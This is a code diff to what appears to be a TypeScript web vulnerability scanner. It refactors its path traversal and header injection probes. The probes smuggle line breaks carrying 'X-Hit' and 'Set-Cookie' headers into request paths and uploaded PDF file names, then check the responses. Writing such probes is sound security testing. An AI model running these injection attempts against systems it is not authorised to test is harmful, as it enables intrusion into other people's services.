@@ -1,6 +1,6 @@
-import { toForm } from "../kit/form.ts";
+import { toBlob } from "../kit/form.ts";
 import payloads from "./payloads/addresses.json" with { type: "json" };
-import { type Attempts, attempt, authorise, choose, EVIL_HOST, HTML, type Received, sendRaw, type Target, tryRequests } from "./target.ts";
+import { type Attempts, attempt, choose, EVIL_HOST, HTML, type Received, sendRaw, type Target, toUpload, tryRequests } from "./target.ts";
 
 export function tryPathTraversal(target: Target): Attempts {
   const { starts, parents, files, secretPaths } = payloads.traversal;
@@ -54,11 +54,11 @@ export function tryHeaderInjection(target: Target): Attempts {
   const { lineBreaks, starts, fileNames } = payloads.injection;
   const lines = choose(target, lineBreaks, 3).map((line) => `${line}X-Hit:1${line}Set-Cookie:hit=1`);
   const paths = starts.flatMap((start) => lines.map((line) => `${start}1${line.replace(/[\r\n]/g, encodeURIComponent)}`));
-  const toUpload = (name: string) => ({
-    ...{ what: `a file named ${JSON.stringify(name)}`, method: "POST", path: "/api/ebrochure", headers: authorise(target) },
-    body: toForm({ title: "A line break", pdf_file: [new Blob(["%PDF-1.4\n%%EOF"], { type: "application/pdf" }), name] }),
+  const uploads = choose(target, fileNames).map((name) => {
+    const fields = { title: "A line break", pdf_file: [toBlob("%PDF-1.4\n%%EOF", "application/pdf"), name] as [Blob, string] };
+    return toUpload(target, `a file named ${JSON.stringify(name)}`, "/api/ebrochure", fields);
   });
-  const requests = [...paths.map((path) => ({ path, headers: HTML })), ...choose(target, fileNames).map(toUpload)];
+  const requests = [...paths.map((path) => ({ path, headers: HTML })), ...uploads];
   const findHit = ({ headers }: Received) => (headers["x-hit"] || headers["set-cookie"]) !== undefined && "wrote a header";
   return tryRequests(target, requests, findHit);
 }
